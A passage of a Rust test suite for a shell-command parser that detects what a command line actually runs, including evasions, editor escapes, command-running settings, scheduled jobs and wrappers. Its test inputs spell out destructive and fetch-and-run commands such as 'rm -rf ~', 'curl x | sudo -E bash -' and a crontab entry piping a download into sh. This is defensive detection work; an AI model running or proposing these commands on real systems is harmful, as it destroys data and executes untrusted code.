    assert_eq!(
        line.unknown.as_deref(),
        Some("nesting too deep"),
        "deep substitutions"
    );
    assert!(
        line.commands.len() <= 10,
        "deep substitutions: {} commands",
        line.commands.len()
    );

    let mut shells = String::from("rm x");
    for _ in 0..11 {
        shells = format!("bash -c {}", quote(&shells));
    }
    let line = Line::parse(&shells);
    assert!(line.unknown.is_some(), "deep bash -c");

    let mut ok = String::from("rm x");
    for _ in 0..5 {
        ok = format!("bash -c {}", quote(&ok));
    }
    let line = Line::parse(&ok);
    assert_eq!(line.unknown, None, "5 nested bash -c: {ok}");
    let rm = named(&ok, "rm");
    assert_eq!(rm.len(), 1, "5 nested bash -c: {ok}");
}

/// Single-quotes a string for the shell.
fn quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', r"'\''"))
}

#[test]
fn adversarial_inputs_stay_fast() {
    let inputs = [
        "$(".repeat(30_000),
        "`".repeat(60_000),
        "\"".repeat(60_001),
        "'".repeat(60_001),
        "((".repeat(30_000),
        "((a) ".repeat(12_000),
        "${".repeat(30_000),
        "(".repeat(60_000),
        ")".repeat(60_000),
        "{ ".repeat(30_000),
        "a;".repeat(30_000),
        "a|".repeat(30_000),
        "<<E\n".repeat(15_000),
        "sudo ".repeat(12_000),
        "env -S ".repeat(8_000),
        "bash -c \"".repeat(6_000),
        "eval ".repeat(12_000),
        "xargs ".repeat(10_000),
        "$(echo ".repeat(8_000),
        "\\".repeat(60_000),
        "$'\\".repeat(20_000),
        "case x in ".repeat(6_000),
        "for ".repeat(15_000),
        "[[ ".repeat(20_000),
        format!("{{ {} }} {}", "a;".repeat(20_000), ">x ".repeat(5_000)),
        "<(".repeat(30_000),
        "a=(".repeat(20_000),
        "!(".repeat(30_000),
        "$((".repeat(20_000),
        "bash -c 'eval \"".repeat(4_000),
        "echo $(a) ".repeat(6_000),
        "find -exec ".repeat(6_000),
        "cat <<E\n$(a)\nE\n".repeat(4_000),
        "bash <<E\n$(a)\nE\n".repeat(4_000),
        "{ a; } | ".repeat(6_000),
        "x=$(".repeat(15_000),
    ];
    for input in &inputs {
        let start = std::time::Instant::now();
        let line = Line::parse(input);
        let took = start.elapsed();
        let head: String = input.chars().take(20).collect();
        assert!(
            took.as_millis() < 2_000,
            "{head:?}… ({} bytes) took {took:?}",
            input.len()
        );
        assert!(
            line.commands.len() <= input.len() + 8,
            "{head:?}…: {} commands",
            line.commands.len()
        );
    }
}

#[test]
fn typical_lines_are_quick() {
    let line = "cd /work/app && git status --short | grep -v '^??' && cargo test -p core -- --nocapture 2>&1 | tail -n 50";
    let start = std::time::Instant::now();
    for _ in 0..1_000 {
        let _ = Line::parse(line);
    }
    let each = start.elapsed() / 1_000;
    // Generous for debug builds on a busy machine; release is a few µs.
    assert!(each.as_micros() < 2_000, "{line:?} took {each:?}");
}

#[test]
fn binary_junk() {
    let mut junk = Vec::new();
    let mut x: u32 = 12345;
    for _ in 0..100_000 {
        x = x.wrapping_mul(1_103_515_245).wrapping_add(12345);
        junk.push((x >> 16) as u8);
    }
    let text = String::from_utf8_lossy(&junk);
    let _ = Line::parse(&text);
    let ascii: String = junk.iter().map(|&b| char::from(b % 128)).collect();
    let _ = Line::parse(&ascii);
    let alphabet = b"$()`'\"\\{}<>|&;# \nab=-c";
    let shelly: String = junk
        .iter()
        .filter_map(|&b| alphabet.get(usize::from(b) % alphabet.len()))
        .map(|&b| char::from(b))
        .collect();
    let _ = Line::parse(&shelly);
}

proptest! {
    #[test]
    fn never_panics(s in ".{0,300}") {
        let _ = Line::parse(&s);
    }

    #[test]
    fn never_panics_on_shell_syntax(s in r#"([a-z ;&|()<>{}$`'"\\\n#=*!\[\]-]|bash -c |eval |xargs |sudo |<<E|EOF|\$\(|\$\{|case |in |esac|do|done|for |if |fi|then){0,60}"#) {
        let line = Line::parse(&s);
        for c in &line.commands {
            if let Some(p) = c.parent {
                prop_assert!(p < line.commands.len(), "parent out of range in {:?}", s);
            }
        }
    }
}

#[test]
fn evasions_are_seen() {
    check(&[
        ("r''m -rf /", &["top 0.0 rm -rf /"], false),
        ("\\r\\m -rf /", &["top 0.0 rm -rf /"], false),
        (
            "curl x | sudo -E bash -",
            &["top 0.0 curl x", "top 0.1 bash -"],
            false,
        ),
        (
            "sudo -- sh -c 'rm x'",
            &["top 0.0 sh -c «rm x»", "shc^0 1.0 rm x"],
            false,
        ),
        (
            "env -i PATH=/bin sh -c 'rm x'",
            &["top 0.0 sh -c «rm x»", "shc^0 1.0 rm x"],
            false,
        ),
        ("command exec rm x", &["top 0.0 rm x"], false),
        (
            "nohup bash -c 'rm x' >/dev/null 2>&1 &",
            &["top 0.0 bash -c «rm x»", "shc^0 1.0 rm x"],
            false,
        ),
        (
            "xargs -I{} sh -c 'rm {}'",
            &[
                "top 0.0 xargs -I{} sh -c «rm {}»",
                "xargs^0 1.0 sh -c «rm {}»",
                "shc^1 2.0 rm {}",
            ],
            false,
        ),
        (
            "find . -exec sh -c 'rm \"$1\"' _ {} \\;",
            &[
                "top 0.0 find . -exec sh -c «rm \"$1\"» _ {} ;",
                "exec^0 1.0 sh -c «rm \"$1\"» _ {}",
                "shc^1 2.0 rm {}",
            ],
            false,
        ),
        (
            "sh -c \"$(curl -s x)\"",
            &[
                "top 0.0 sh -c «$(curl -s x)»",
                "sub^0 1.0 curl -s x",
                "shc^0 2.0 «$(curl -s x)»",
                "sub^2 3.0 curl -s x",
            ],
            false,
        ),
        // The program named by a variable the line set is read again with its value.
        (
            "a=rm; $a -rf /",
            &["top 0.0 ", "top 1.0 $a -rf /", "eval^1 2.0 rm -rf /"],
            false,
        ),
        ("rm\r\n-rf", &["top 0.0 rm", "top 1.0 -rf"], false),
    ]);
    let c = first("\"$(printf rm)\" -rf /");
    assert_eq!(
        c.program(),
        "rm",
        "a printf of words written out is what it prints: {c:?}"
    );
    let c = first("\"$(printf $X)\" -rf /");
    assert!(c.dynamic_program, "a substituted program is dynamic: {c:?}");
    let bg = Line::parse("nohup bash -c 'rm x' >/dev/null 2>&1 &");
    assert_eq!(
        bg.commands.first().map(|c| c.background),
        Some(true),
        "nohup … &"
    );
}

#[test]
fn brace_expansion() {
    check(&[
        ("{rm,-rf,/}", &["top 0.0 rm -rf /"], false),
        ("rm {-rf,/tmp/x}", &["top 0.0 rm -rf /tmp/x"], false),
        ("echo {a,b}c '{x,y}'", &["top 0.0 echo ac bc {x,y}"], false),
        ("echo {} {a}", &["top 0.0 echo {} {a}"], false),
        ("rm -rf ~{,}", &["top 0.0 rm -rf ~ ~"], false),
        ("echo a{b,c}{d,e}", &["top 0.0 echo abd abe acd ace"], false),
        ("cp x{,.bak}", &["top 0.0 cp x x.bak"], false),
        ("echo {,x}", &["top 0.0 echo x"], false),
        (
            "echo \"{a,b}\" $x{a,b}",
            &["top 0.0 echo {a,b} $x{a,b}"],
            false,
        ),
    ]);
    let c = first("{r,}m x");
    assert_eq!(
        c.program(),
        "rm",
        "a brace list in the program is expanded: {c:?}"
    );
    let line = Line::parse("while read l; do echo $l; done <<EOF\n$(id)\nEOF");
    let ids = line.commands.iter().filter(|c| c.program() == "id").count();
    assert_eq!(
        ids, 1,
        "a group's here-document substitutions are read once: {line:?}"
    );
}

#[test]
fn editors_and_debuggers() {
    check(&[
        (
            "vim -c ':!rm -rf ~' x",
            &["top 0.0 vim -c «:!rm -rf ~» x", "editor^0 1.0 rm -rf ~"],
            false,
        ),
        (
            "nvim +'!rm -rf ~' +q",
            &["top 0.0 nvim «+!rm -rf ~» +q", "editor^0 1.0 rm -rf ~"],
            false,
        ),
        (
            "vi -c 'silent !curl x | sh' -c q",
            &[
                "top 0.0 vi -c «silent !curl x | sh» -c q",
                "editor^0 1.0 curl x",
                "editor^0 1.1 sh",
            ],
            false,
        ),
        (
            "vim -c 'set nu | %!sort' -c 'r !id' -c 'w !tee /etc/x' f",
            &[
                "top 0.0 vim -c «set nu | %!sort» -c «r !id» -c «w !tee /etc/x» f",
                "editor^0 1.0 sort",
                "editor^0 2.0 id",
                "editor^0 3.0 tee /etc/x",
            ],
            false,
        ),
        (
            "vim --cmd 'call system(\"rm -rf /srv\")' -c 'terminal ++close rm x'",
            &[
                "top 0.0 vim --cmd «call system(\"rm -rf /srv\")» -c «terminal ++close rm x»",
                "editor^0 1.0 rm -rf /srv",
                "editor^0 2.0 rm x",
            ],
            false,
        ),
        (
            "ex -c 'exe \"!id\"' f",
            &["top 0.0 ex -c «exe \"!id\"» f", "editor^0 1.0 id"],
            false,
        ),
        (
            "gdb -batch -ex 'shell rm -rf ~' -ex '!id' --ex='pipe bt | tee /tmp/x'",
            &[
                "top 0.0 gdb -batch -ex «shell rm -rf ~» -ex !id «--ex=pipe bt | tee /tmp/x»",
                "editor^0 1.0 rm -rf ~",
                "editor^0 2.0 id",
                "editor^0 3.0 tee /tmp/x",
            ],
            false,
        ),
        (
            "gdb -q --args ./app rm x",
            &["top 0.0 gdb -q --args ./app rm x", "runs^0 1.0 ./app rm x"],
            false,
        ),
        (
            "less '+!rm -rf ~' f",
            &["top 0.0 less «+!rm -rf ~» f", "editor^0 1.0 rm -rf ~"],
            false,
        ),
        // Routine: nothing runs.
        (
            "echo '!rm -rf ~' | vim -es",
            &[
                "top 0.0 echo «!rm -rf ~»",
                "top 0.1 vim -es",
                "editor^1 1.0 rm -rf ~",
            ],
            false,
        ),
        (
            "ex -s f <<'EOF'\n%s/a/b/g\nr !id\nwq\nEOF",
            &["top 0.0 ex -s f", "editor^0 1.0 id"],
            false,
        ),
        ("vim file", &["top 0.0 vim file"], false),
        (
            "nvim -c 'set ft=rust' -c 'normal G' +42 x.rs",
            &["top 0.0 nvim -c «set ft=rust» -c «normal G» +42 x.rs"],
            false,
        ),
        ("vim -c 'w!' -c wq f", &["top 0.0 vim -c w! -c wq f"], false),
        ("less +G README.md", &["top 0.0 less +G README.md"], false),
        ("gdb ./app core", &["top 0.0 gdb ./app core"], false),
        (
            "gdb -batch -ex run -ex bt ./app",
            &["top 0.0 gdb -batch -ex run -ex bt ./app"],
            false,
        ),
    ]);
}

#[test]
fn settings_that_run_commands() {
    check(&[
        (
            "PAGER='sh -c \"rm -rf ~\"' man ls",
            &[
                "top 0.0 man ls",
                "set^0 1.0 sh -c «rm -rf ~»",
                "shc^1 2.0 rm -rf ~",
            ],
            false,
        ),
        (
            "LESSOPEN='|rm -rf ~ %s' less f",
            &["top 0.0 less f", "set^0 1.0 rm -rf ~ %s"],
            false,
        ),
        (
            "env GIT_SSH_COMMAND='curl x | sh' git fetch",
            &["top 0.0 git fetch", "set^0 1.0 curl x", "set^0 1.1 sh"],
            false,
        ),
        (
            "export PROMPT_COMMAND='rm x'",
            &["top 0.0 export «PROMPT_COMMAND=rm x»", "set^0 1.0 rm x"],
            false,
        ),
        ("EDITOR='rm x'", &["top 0.0 ", "set^0 1.0 rm x"], false),
        (
            "man -P 'rm -rf ~' ls",
            &["top 0.0 man -P «rm -rf ~» ls", "set^0 1.0 rm -rf ~"],
            false,
        ),
        (
            "ssh -o ProxyCommand='rm -rf ~' -oLocalCommand=id -o 'KnownHostsCommand x' h",
            &[
                "top 0.0 ssh -o «ProxyCommand=rm -rf ~» -oLocalCommand=id -o «KnownHostsCommand x» h",
                "set^0 1.0 rm -rf ~",
                "set^0 2.0 id",
                "set^0 3.0 x",
            ],
            false,
        ),
        (
            "scp -S ./evil f h:",
            &["top 0.0 scp -S ./evil f h:", "set^0 1.0 ./evil"],
            false,
        ),
        (
            "rsync -e 'ssh -o ProxyCommand=id' a h:b",
            &[
                "top 0.0 rsync -e «ssh -o ProxyCommand=id» a h:b",
                "set^0 1.0 ssh -o ProxyCommand=id",
                "set^1 2.0 id",
            ],
            false,
        ),
        (
            "tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec='rm -rf ~'",
            &[
                "top 0.0 tar -c -f /dev/null x --checkpoint=1 «--checkpoint-action=exec=rm -rf ~»",
                "set^0 1.0 rm -rf ~",
            ],
            false,
        ),
        (
            "tar xf a.tar --to-command 'sh -c id'",
            &[
                "top 0.0 tar xf a.tar --to-command «sh -c id»",
                "set^0 1.0 sh -c id",
                "shc^1 2.0 id",
            ],
            false,
        ),
        (
            "zip z.zip f -T -TT 'rm -rf ~ #'",
            &[
                "top 0.0 zip z.zip f -T -TT «rm -rf ~ #»",
                "set^0 1.0 rm -rf ~",
            ],
            false,
        ),
        (
            "apt-get update -o APT::Update::Pre-Invoke::='rm -rf ~'",
            &[
                "top 0.0 apt-get update -o «APT::Update::Pre-Invoke::=rm -rf ~»",
                "set^0 1.0 rm -rf ~",
            ],
            false,
        ),
        // Routine: values that are not commands, or commands that only read.
        (
            "PAGER=cat git log",
            &["top 0.0 git log", "set^0 1.0 cat"],
            false,
        ),
        ("FOO='rm -rf ~' make", &["top 0.0 make"], false),
        (
            "ssh -o StrictHostKeyChecking=no -o ProxyCommand=none h",
            &["top 0.0 ssh -o StrictHostKeyChecking=no -o ProxyCommand=none h"],
            false,
        ),
        (
            "apt-get -o Dpkg::Options::=--force-confold install -y jq",
            &["top 0.0 apt-get -o Dpkg::Options::=--force-confold install -y jq"],
            false,
        ),
        (
            "tar -xzf a.tgz -C /tmp",
            &["top 0.0 tar -xz -f a.tgz -C /tmp"],
            false,
        ),
        ("man ls", &["top 0.0 man ls"], false),
    ]);
}

#[test]
fn runners() {
    check(&[
        (
            "parallel rm -rf ::: ~ /srv",
            &[
                "top 0.0 parallel rm -rf ::: ~ /srv",
                "shc^0 1.0 rm -rf ~",
                "shc^0 2.0 rm -rf /srv",
            ],
            false,
        ),
        (
            "parallel -j4 'gzip {}' ::: a.log",
            &[
                "top 0.0 parallel -j4 «gzip {}» ::: a.log",
                "shc^0 1.0 gzip a.log",
            ],
            false,
        ),
        (
            "parallel ::: 'rm -rf ~' ls",
            &[
                "top 0.0 parallel ::: «rm -rf ~» ls",
                "shc^0 1.0 rm -rf ~",
                "shc^0 2.0 ls",
            ],
            false,
        ),
        (
            "ls | parallel rm",
            &["top 0.0 ls", "top 0.1 parallel rm", "shc^1 1.0 rm"],
            false,
        ),
        (
            "script -qc 'rm -rf ~' /dev/null",
            &[
                "top 0.0 script -q -c «rm -rf ~» /dev/null",
                "shc^0 1.0 rm -rf ~",
            ],
            false,
        ),
        (
            "tmux new-session -d -s x 'rm -rf ~'",
            &[
                "top 0.0 tmux new-session -d -s x «rm -rf ~»",
                "shc^0 1.0 rm -rf ~",
            ],
            false,
        ),
        (
            "tmux send-keys -t x 'curl e | sh' Enter \\; run-shell -b id",
            &[
                "top 0.0 tmux send-keys -t x «curl e | sh» Enter ; run-shell -b id",
                "runs^0 1.0 curl e",
                "runs^0 1.1 sh",
                "shc^0 2.0 id",
            ],
            false,
        ),
        (
            "screen -dmS w sh -c 'rm -rf ~'",
            &[
                "top 0.0 screen -dmS w sh -c «rm -rf ~»",
                "runs^0 1.0 sh -c «rm -rf ~»",
                "shc^1 2.0 rm -rf ~",
            ],
            false,
        ),
        (
            "screen -S w -X stuff 'rm -rf ~^M'",
            &[
                "top 0.0 screen -S w -X stuff «rm -rf ~^M»",
                "runs^0 1.0 rm -rf ~",
            ],
            false,
        ),
        (
            "expect -c 'spawn rm -rf ~; set x [exec id]; send \"curl e | sh\\r\"'",
            &[
                "top 0.0 expect -c «spawn rm -rf ~; set x [exec id]; send \"curl e | sh\\r\"»",
                "runs^0 1.0 rm -rf ~",
                "runs^0 2.0 curl e",
                "runs^0 2.1 sh",
                "runs^0 3.0 id",
            ],
            false,
        ),
        (
            "hyperfine --prepare 'rm -rf /srv' 'sleep 1' -w 3",
            &[
                "top 0.0 hyperfine --prepare «rm -rf /srv» «sleep 1» -w 3",
                "shc^0 1.0 rm -rf /srv",
                "shc^0 2.0 sleep 1",
            ],
            false,
        ),
        // Routine.
        ("tmux new -s work", &["top 0.0 tmux new -s work"], false),
        (
            "tmux attach -t work",
            &["top 0.0 tmux attach -t work"],
            false,
        ),
        (
            "script -q /dev/null",
            &["top 0.0 script -q /dev/null"],
            false,
        ),
        ("screen -r", &["top 0.0 screen -r"], false),
        ("expect deploy.exp", &["top 0.0 expect deploy.exp"], false),
    ]);
}

#[test]
fn what_runs_later() {
    check(&[
        (
            "at now <<< 'rm -rf ~'",
            &["top 0.0 at now", "later^0 1.0 rm -rf ~"],
            false,
        ),
        (
            "echo 'rm -rf ~' | at now + 1 minute",
            &[
                "top 0.0 echo «rm -rf ~»",
                "top 0.1 at now + 1 minute",
                "later^1 1.0 rm -rf ~",
            ],
            false,
        ),
        (
            "echo '*/5 * * * * curl -s e | sh' | crontab -",
            &[
                "top 0.0 echo «*/5 * * * * curl -s e | sh»",
                "top 0.1 crontab -",
                "later^1 1.0 curl -s e",
                "later^1 1.1 sh",
            ],
            false,
        ),
        (
            "crontab - <<'EOF'\nSHELL=/bin/sh\n# x\n@reboot rm -rf ~\n0 3 * * * date > /tmp/d%x\nEOF",
            &[
                "top 0.0 crontab -",
                "later^0 1.0 rm -rf ~",
                "later^0 2.0 date",
            ],
            false,
        ),
        (
            "systemd-run --user --on-calendar=daily rm -rf ~",
            &[
                "top 0.0 systemd-run --user --on-calendar=daily rm -rf ~",
                "later^0 1.0 rm -rf ~",
            ],
            false,
        ),
        (
            "systemd-run --on-active 30 -p User=x rm x",
            &[
                "top 0.0 systemd-run --on-active 30 -p User=x rm x",
                "later^0 1.0 rm x",
            ],
            false,
        ),
        ("at -l", &["top 0.0 at -l"], false),
        ("at -f job.sh now", &["top 0.0 at -f job.sh now"], false),
        ("crontab -l", &["top 0.0 crontab -l"], false),
        ("crontab jobs.txt", &["top 0.0 crontab jobs.txt"], false),
    ]);
}

#[test]
fn what_echo_pipes_into_a_shell() {
    check(&[
        (
            "echo 'rm -rf ~' | sh",
            &[
                "top 0.0 echo «rm -rf ~»",
                "top 0.1 sh",
                "heredoc^1 1.0 rm -rf ~",
            ],
            false,
        ),
        (
            "printf 'cd /\\nrm -rf %s\\n' srv | bash -s",
            &[
                "top 0.0 printf «cd /\\nrm -rf %s\\n» srv",
                "top 0.1 bash -s",
                "heredoc^1 1.0 cd /",
                "heredoc^1 2.0 rm -rf srv",
            ],
            false,
        ),
        (
            "echo -e 'spawn rm x' | expect",
            &[
                "top 0.0 echo -e «spawn rm x»",
                "top 0.1 expect",
                "runs^1 1.0 rm x",
            ],
            false,
        ),
        // Not piped to what reads commands, or not what echo writes.
        (
            "echo 'rm x' | cat",
            &["top 0.0 echo «rm x»", "top 0.1 cat"],
            false,
        ),
        (
            "echo 'rm x' > f | sh",
            &["top 0.0 echo «rm x»", "top 0.1 sh"],
            false,
        ),
        (
            "echo 'rm x' | grep r | sh",
            &["top 0.0 echo «rm x»", "top 0.1 grep r", "top 0.2 sh"],
            false,
        ),
        (
            "echo hi | bash script.sh",
            &["top 0.0 echo hi", "top 0.1 bash script.sh"],
            false,
        ),
    ]);
}

/// One example for every wrapper in the catalogue: how it is written around `rm -rf /x`.
#[rustfmt::skip]
const WRAPPER_EXAMPLES: &[(&str, &str)] = &[
    ("builtin", "builtin rm -rf /x"),
    ("busybox", "busybox rm -rf /x"),
    ("caffeinate", "caffeinate -i rm -rf /x"),
    ("chronic", "chronic rm -rf /x"),
    ("chroot", "chroot --userspec=a:b / rm -rf /x"),
    ("chrt", "chrt -f 10 rm -rf /x"),
    ("command", "command rm -rf /x"),
    ("coreutils", "coreutils --coreutils-prog=rm -rf /x"),
    ("doas", "doas -u root rm -rf /x"),
    ("dzdo", "dzdo -u root rm -rf /x"),
    ("entr", "entr -r rm -rf /x"),
    ("env", "env -i A=1 rm -rf /x"),
    ("exec", "exec -a name rm -rf /x"),
    ("fakeroot", "fakeroot rm -rf /x"),
    ("faketime", "faketime '2020-01-01' rm -rf /x"),
    ("firejail", "firejail --noprofile rm -rf /x"),
    ("flock", "flock -w 5 /tmp/l rm -rf /x"),
    ("gosu", "gosu app rm -rf /x"),
    ("ionice", "ionice -c 3 rm -rf /x"),
    ("ltrace", "ltrace -o /dev/null rm -rf /x"),
    ("lvm", "lvm rm -rf /x"),
    ("nice", "nice -n 5 rm -rf /x"),
    ("nocorrect", "nocorrect rm -rf /x"),
    ("noglob", "noglob rm -rf /x"),
    ("nohup", "nohup rm -rf /x"),
    ("nsenter", "nsenter -t 1 -m -u rm -rf /x"),
    ("parallel", "parallel -j2 rm -rf ::: /x"),
    ("perf", "perf record -g -e cycles -o out.data rm -rf /x"),
    ("pkexec", "pkexec --user root rm -rf /x"),
    ("proxychains", "proxychains4 rm -rf /x"),
    ("run0", "run0 -u root rm -rf /x"),
    ("runuser", "runuser -u bob -- rm -rf /x"),
    ("setsid", "setsid -f rm -rf /x"),
    ("sshpass", "sshpass -p pw rm -rf /x"),
    ("stdbuf", "stdbuf -oL rm -rf /x"),
    ("strace", "strace -f -o /dev/null rm -rf /x"),
    ("su-exec", "su-exec app rm -rf /x"),
    ("sudo", "sudo -u root rm -rf /x"),
    ("systemd-run", "systemd-run --user -p Nice=5 rm -rf /x"),
    ("taskset", "taskset -c 0 rm -rf /x"),
    ("time", "time -p rm -rf /x"),
    ("timeout", "timeout -s KILL 5 rm -rf /x"),
    ("torsocks", "torsocks -i rm -rf /x"),
    ("toybox", "toybox rm -rf /x"),
    ("trace-cmd", "trace-cmd record -p function -e sched_switch rm -rf /x"),
    ("unbuffer", "unbuffer rm -rf /x"),
    ("unshare", "unshare -r rm -rf /x"),
    ("valgrind", "valgrind --leak-check=full rm -rf /x"),
    ("watch", "watch -n 1 rm -rf /x"),
    ("watchexec", "watchexec -e rs -- rm -rf /x"),
    ("waypipe", "waypipe -c lz4 server -- rm -rf /x"),
    ("xargs", "xargs -0 rm -rf /x"),
];

#[test]
fn every_wrapper_is_read() {
    use crate::catalogue::{CATALOGUE, Class};
    let wrappers: Vec<&str> = CATALOGUE
        .iter()
        .filter(|p| p.is(Class::Wrapper))
        .map(|p| p.name)
        .collect();
    let named: Vec<&str> = WRAPPER_EXAMPLES.iter().map(|(name, _)| *name).collect();
    assert_eq!(
        named, wrappers,
        "one example for each wrapper, in catalogue order"
    );
    for (name, example) in WRAPPER_EXAMPLES {
        let line = Line::parse(example);
        let inner = line
            .commands
            .iter()
            .find(|c| c.words == ["rm", "-rf", "/x"]);
        let taken_off = inner.is_some_and(|c| c.wrappers.iter().any(|w| w == name));
        let held = inner.is_some_and(|c| {
            c.parent
                .and_then(|p| line.commands.get(p))
                .is_some_and(|holder| holder.program() == *name)
        });
        assert!(
            taken_off || held,
            "{name}: `rm -rf /x` is neither taken off nor held in {example:?}: {:?}",
            shown(&line)
        );
        assert_eq!(line.unknown, None, "{example:?}");
    }
}

#[test]
fn wrappers_that_run_nothing_stay_the_program() {
    for (input, program) in [
        ("strace -p 123", "strace"),
        ("taskset -p 3 123", "taskset"),
        ("chrt -p 123", "chrt"),
        ("runuser bob -c 'id'", "runuser"),
        ("chroot /mnt", "chroot"),
        ("nsenter -t 1 -m", "nsenter"),
        ("systemd-run --on-calendar=daily touch x", "systemd-run"),
    ] {
        assert_eq!(first(input).program(), program, "{input:?}");
    }
    // Following a process and running a command too: the command runs.
    for input in [
        "strace -p 1 rm -rf /x",
        "strace -f -p 1 -o out.txt rm -rf /x",
        "ltrace -p 1 rm -rf /x",
    ] {
        assert_eq!(first(input).program(), "rm", "{input:?}");
    }
    assert!(
        first("nsenter -t 1 -m sh").sudo,
        "nsenter needs the administrator"
    );
    assert!(first("chroot / sh").sudo, "chroot needs the administrator");
    assert!(
        first("systemd-run rm x").sudo,
        "systemd-run on the system's manager"
    );
    assert!(!first("systemd-run --user rm x").sudo, "systemd-run --user");
    assert!(
        !first("systemd-run --scope make").sudo,
        "systemd-run --scope"
    );
    check(&[
        (
            "watchexec -e rs 'cargo test && ./run'",
            &[
                "top 0.0 watchexec -e rs «cargo test && ./run»",
                "shc^0 1.0 cargo test",
                "shc^0 2.0 ./run",
            ],
            false,
        ),
        (
            "ls | entr -s 'make && ./app'",
            &[
                "top 0.0 ls",
                "top 0.1 entr -s «make && ./app»",
                "shc^1 1.0 make",
                "shc^1 2.0 ./app",
            ],
            false,
        ),
    ]);
}

#[test]
fn runner_tables_are_sorted_and_unique() {
    for (name, table) in [
        ("COMMAND_VARIABLES", super::runs::COMMAND_VARIABLES),
        ("SSH_COMMAND_KEYS", super::runs::SSH_COMMAND_KEYS),
        ("APT_COMMAND_KEYS", super::runs::APT_COMMAND_KEYS),
    ] {
        for pair in table.windows(2) {
            if let [a, b] = pair {
                assert!(a < b, "{name}: {a} must come before {b}");
            }
        }
    }
    for key in super::runs::SSH_COMMAND_KEYS
        .iter()
        .chain(super::runs::APT_COMMAND_KEYS)
    {
        assert_eq!(*key, key.to_ascii_lowercase(), "{key}");
    }
}

#[test]
fn crontabs_and_tcl_scripts() {
    let table = "MAILTO=x\n*/5 * * * *  /usr/bin/backup --all\n@daily rm -rf /tmp/x\n\n# c\n1 2 3 4 5 echo 50\\% done % stdin";
    assert_eq!(
        super::runs::crontab_commands(table),
        "/usr/bin/backup --all\nrm -rf /tmp/x\necho 50% done "
    );
    assert_eq!(
        super::runs::tcl_commands(
            "spawn -noecho ssh h; expect \"$ \"; send -- \"ls\\r\"\nexec sh -c {rm -rf ~} | tee x"
        ),
        "ssh h\nls\n\nsh -c 'rm -rf ~' | tee x"
    );
    assert_eq!(
        super::runs::ex_escapes("set a | silent! !rm x | echo"),
        vec!["rm x | echo".to_string()]
    );
}

#[test]
fn runners_stay_linear() {
    let inputs = [
        "echo a | sh | ".repeat(6_000),
        "vim -c '!a' ".repeat(8_000),
        format!(
            "parallel {} ::: {}",
            "a ".repeat(20_000),
            "b ".repeat(10_000)
        ),
        "parallel a ::: b ".repeat(6_000),
        format!("tmux send-keys {}", "x Enter \\; ".repeat(8_000)),
        format!("expect -c '{}'", "[".repeat(30_000)),
        format!("expect -c '{}'", "spawn a; ".repeat(8_000)),
        "PAGER=a ".repeat(12_000),
        format!("printf '{}' {}", "%s".repeat(2_000), "a ".repeat(20_000)),
        format!("crontab - <<E\n{}E\n", "* * * * * a\n".repeat(8_000)),
        "gdb -ex '!a' ".repeat(8_000),
        format!("vim -c '{}'", "exe \"".repeat(10_000)),
    ];
    for input in &inputs {
        let start = std::time::Instant::now();
        let line = Line::parse(input);
        let took = start.elapsed();
        let head: String = input.chars().take(20).collect();
        assert!(
            took.as_millis() < 2_000,
            "{head:?}… ({} bytes) took {took:?}",
            input.len()
        );
        assert!(
            line.commands.len() <= 2 * input.len() + 8,
            "{head:?}…: {} commands",
            line.commands.len()
        );
    }
}

#[test]
fn every_reader_is_of_a_program_that_runs_others() {
    use crate::catalogue::{self, Class};
    let readers = super::runs::READERS;
    for pair in readers.windows(2) {
        if let [(a, _), (b, _)] = pair {
            assert!(a < b, "READERS: {a} must come before {b}");
        }
    }
    for (name, _) in readers {
        assert!(
            catalogue::is(name, Class::Runs) || catalogue::is(name, Class::Wrapper),
            "{name} has a reader but the catalogue doesn't say it runs others"
        );
        assert_eq!(catalogue::name(name), *name, "{name} is a family's name");
    }
    let runners = super::runs::RUNNERS;
    for pair in runners.windows(2) {
        if let [a, b] = pair {
            assert!(
                a.name < b.name,
                "RUNNERS: {} must come before {}",
                a.name,
                b.name
            );
        }
    }
    for runner in runners {
        let name = runner.name;
        assert!(
            catalogue::is(name, Class::Runs),
            "{name} is a runner but the catalogue doesn't say it runs others"
        );
        assert_eq!(catalogue::name(name), name, "{name} is a family's name");
        assert!(
            readers.iter().all(|(reader, _)| *reader != name),
            "{name} has a reader and a runner's row"
        );
    }
}

/// A here-document's body and whether its delimiter was found, read line by line as the
/// shell reads it: what `Lexer::read_bodies` must give, however it finds the delimiter.
fn body_by_lines(rest: &str, delim: &str, strip: bool) -> (String, bool) {
    let mut body = String::new();
    let mut pos = 0;
    while pos < rest.len() {
        let tail = &rest[pos..];
        let mut line = tail.split_once('\n').map_or(tail, |(line, _)| line);
        pos = (pos + line.len() + 1).min(rest.len());
        if strip {
            line = line.trim_start_matches('\t');
        }
        if line.strip_suffix('\r').unwrap_or(line) == delim {
            return (body, true);
        }
        body.push_str(line);
        body.push('\n');
    }
    (body, false)
}

proptest! {
    #[test]
    fn a_here_document_body_is_its_lines_up_to_the_delimiter(
        rest in "(EOF|EO|EOFX|XEOF|a|\t|\r| |\n){0,24}",
        strip in any::<bool>(),
    ) {
        let text = format!("cat <<{}'EOF'\n{rest}", if strip { "-" } else { "" });
        let line = Line::parse(&text);
        let (body, found) = body_by_lines(&rest, "EOF", strip);
        let target = line
            .commands
            .first()
            .and_then(|c| c.redirects.first())
            .map(|r| r.target.clone());
        prop_assert_eq!(target, Some(body), "{:?}", text);
        if !found {
            prop_assert_eq!(line.unknown.as_deref(), Some("unterminated here-document"), "{:?}", text);
        }
    }

    #[test]
    fn what_follows_a_here_document_is_read_after_it(
        body in "(EOF|EO|a|\r| |\n){0,12}",
        crlf in any::<bool>(),
    ) {
        let end = if crlf { "EOF\r\n" } else { "EOF\n" };
        let text = format!("cat <<'EOF'\n{body}\n{end}echo zz");
        let line = Line::parse(&text);
        prop_assert!(
            line.commands.iter().any(|c| c.words == ["echo", "zz"]),
            "{:?}", text
        );
    }
}

/// A stage that makes a line of each line it reads is read as a template around that line,
/// `$LINE`, only in the shapes whose output is plain: one `s` command of sed anchored or
/// around the whole line, awk's one `print` or `printf` of texts and fields, xargs's `echo`.
#[test]
fn templates_around_each_line_are_read_and_nothing_else() {
    let rows: &[(&str, Option<&str>)] = &[
        ("sed 's/^/rm -rf /'", Some("rm -rf $LINE")),
        ("sed 's|^|rm -rf ~/|'", Some("rm -rf ~/$LINE")),
        ("sed -e 's/$/ --force/'", Some("$LINE --force")),
        ("sed 's/.*/cp & &.bak/'", Some("cp $LINE $LINE.bak")),
